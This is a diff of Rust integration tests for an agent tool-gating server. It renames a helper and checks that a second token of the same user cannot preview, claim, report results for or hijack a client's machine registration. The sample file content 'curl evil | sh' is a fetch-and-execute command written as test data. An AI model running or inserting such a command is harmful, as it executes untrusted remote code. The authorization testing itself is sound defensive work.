@@ -11,23 +11,23 @@ async fn another_token_cannot_show_a_preview_for_a_machine(
     #[values(Sqlite, Postgres)] backend: Backend,
 ) {
     let server = start(backend).await;
-    let mut desk = Desk::new(server.user("ann")).await;
-    let thief = server.program("ann", "client", &desk.project);
-    assert_eq!(thief.claims()["sub"], desk.user.claims()["sub"]);
+    let mut setup = GateSetup::new(server.user("ann")).await;
+    let thief = server.program("ann", "client", &setup.project);
+    assert_eq!(thief.claims()["sub"], setup.user.claims()["sub"]);
     let call =
-        desk.execute("write_file", json!({"path": "a.sh", "content": "curl evil | sh\n"})).await;
-    let wanted = desk.until("TOOL_PREVIEW_REQUEST").await;
-    assert_eq!(wanted.data["client_id"], json!(desk.client));
+        setup.execute("write_file", json!({"path": "a.sh", "content": "curl evil | sh\n"})).await;
+    let wanted = setup.until("TOOL_PREVIEW_REQUEST").await;
+    assert_eq!(wanted.data["client_id"], json!(setup.client));
     // The id and the checksum are right: both can be known to every token of the user.
-    let path = desk.path(&format!("tools/{}/preview", id(&call)));
+    let path = setup.path(&format!("tools/{}/preview", id(&call)));
     let preview =
-        |diff: &str| json!({"client_id": desk.client, "base_checksum": "c0ffee", "diff": diff});
+        |diff: &str| json!({"client_id": setup.client, "base_checksum": "c0ffee", "diff": diff});
     assert_eq!(thief.post(&path, preview("+harmless\n")).await.problem(), (404, "not_found"));
     let failed =
-        json!({"client_id": desk.client, "error": {"code": "not_found", "detail": "gone"}});
+        json!({"client_id": setup.client, "error": {"code": "not_found", "detail": "gone"}});
     assert_eq!(thief.post(&path, failed).await.problem(), (404, "not_found"));
-    assert_eq!(desk.show(&call).await["status"], "previewing");
-    let asked = desk.user.post(&path, preview("+curl evil | sh\n")).await.expect(200);
+    assert_eq!(setup.show(&call).await["status"], "previewing");
+    let asked = setup.user.post(&path, preview("+curl evil | sh\n")).await.expect(200);
     assert_eq!(asked["preview"]["diff"], "+curl evil | sh\n");
 }
 
@@ -37,14 +37,14 @@ async fn another_token_cannot_show_a_preview_for_a_machine(
 #[tokio::test]
 async fn another_token_cannot_act_for_a_machine(#[values(Sqlite, Postgres)] backend: Backend) {
     let server = start(backend).await;
-    let mut desk = Desk::new(server.user("ann")).await;
-    let thief = server.program("ann", "client", &desk.project);
-    let call = desk.execute("read_file", json!({"path": "a"})).await;
-    let signal = desk.until("TOOL_EXECUTION_SIGNAL").await;
-    let tool = desk.path(&format!("tools/{}", id(&call)));
-    let client = desk.path(&format!("clients/{}", desk.client));
-    let claim = json!({"client_id": desk.client, "attempt": 1});
-    let result = json!({"client_id": desk.client, "attempt": 1, "result": {"success": true, "content": "evil"}});
+    let mut setup = GateSetup::new(server.user("ann")).await;
+    let thief = server.program("ann", "client", &setup.project);
+    let call = setup.execute("read_file", json!({"path": "a"})).await;
+    let signal = setup.until("TOOL_EXECUTION_SIGNAL").await;
+    let tool = setup.path(&format!("tools/{}", id(&call)));
+    let client = setup.path(&format!("clients/{}", setup.client));
+    let claim = json!({"client_id": setup.client, "attempt": 1});
+    let result = json!({"client_id": setup.client, "attempt": 1, "result": {"success": true, "content": "evil"}});
     assert_eq!(thief.post(&format!("{tool}/claim"), claim).await.problem(), (404, "not_found"));
     assert_eq!(
         thief.post(&format!("{tool}/result"), result.clone()).await.problem(),
@@ -55,9 +55,9 @@ async fn another_token_cannot_act_for_a_machine(#[values(Sqlite, Postgres)] back
         (404, "not_found")
     );
     assert_eq!(thief.delete(&client).await.problem(), (404, "not_found"));
-    desk.claim(&signal).await.expect(200);
+    setup.claim(&signal).await.expect(200);
     assert_eq!(thief.post(&format!("{tool}/result"), result).await.problem(), (404, "not_found"));
-    let done = desk.result(&signal, json!({"success": true, "content": "true"})).await.expect(200);
+    let done = setup.result(&signal, json!({"success": true, "content": "true"})).await.expect(200);
     assert_eq!(done["result"]["content"], "true");
 }
 
@@ -67,32 +67,35 @@ async fn another_token_cannot_act_for_a_machine(#[values(Sqlite, Postgres)] back
 #[tokio::test]
 async fn registration_belongs_to_its_token(#[values(Sqlite, Postgres)] backend: Backend) {
     let server = start(backend).await;
-    let desk = Desk::new(server.user("ann")).await;
-    let call = desk.execute("create_directory", json!({"path": "d"})).await;
-    desk.decide(&call, "approve", json!({"scope": "class"})).await.expect(200);
-    let thief = server.program("ann", "client", &desk.project);
+    let setup = GateSetup::new(server.user("ann")).await;
+    let call = setup.execute("create_directory", json!({"path": "d"})).await;
+    setup.decide(&call, "approve", json!({"scope": "class"})).await.expect(200);
+    let thief = server.program("ann", "client", &setup.project);
     let register = json!({
-        "client_id": desk.client, "root": "/elsewhere", "os": "linux", "isolation": {}, "resumed": true,
+        "client_id": setup.client, "root": "/elsewhere", "os": "linux", "isolation": {}, "resumed": true,
     });
-    let refused = thief.post(&desk.path("clients"), register.clone()).await;
+    let refused = thief.post(&setup.path("clients"), register.clone()).await;
     assert_eq!(refused.problem(), (409, "client_taken"));
-    let clients = desk.user.get(&desk.path("clients")).await.expect(200);
+    let clients = setup.user.get(&setup.path("clients")).await.expect(200);
     assert_eq!(
         (&clients["total"], &clients["clients"][0]["root"]),
         (&json!(1), &json!("/home/ann/shop"))
     );
 
-    let renewed = desk.user.post("/auth/refresh", json!({})).await.expect(200);
+    let renewed = setup.user.post("/auth/refresh", json!({})).await.expect(200);
     let renewed = server.bearer(renewed["token"].as_str().unwrap());
-    let path = desk.path(&format!("clients/{}/renew", desk.client));
+    let path = setup.path(&format!("clients/{}/renew", setup.client));
     renewed.post(&path, json!(null)).await.expect(200);
-    renewed.post(&desk.path("clients"), register.clone()).await.expect(200);
-    let grants = async || desk.user.get(&desk.path("grants")).await.expect(200)["total"].clone();
+    renewed.post(&setup.path("clients"), register.clone()).await.expect(200);
+    let grants = async || setup.user.get(&setup.path("grants")).await.expect(200)["total"].clone();
     assert_eq!(grants().await, 1, "the same machine came back");
 
     // An id that was given up is free. Whoever takes it inherits nothing.
-    desk.user.delete(&desk.path(&format!("clients/{}", desk.client))).await.expect(204);
-    thief.post(&desk.path("clients"), register).await.expect(200);
+    setup.user.delete(&setup.path(&format!("clients/{}", setup.client))).await.expect(204);
+    thief.post(&setup.path("clients"), register).await.expect(200);
     assert_eq!(grants().await, 0);
-    assert_eq!(desk.post(&format!("clients/{}/renew", desk.client), json!(null)).await.status, 404);
+    assert_eq!(
+        setup.post(&format!("clients/{}/renew", setup.client), json!(null)).await.status,
+        404
+    );
 }
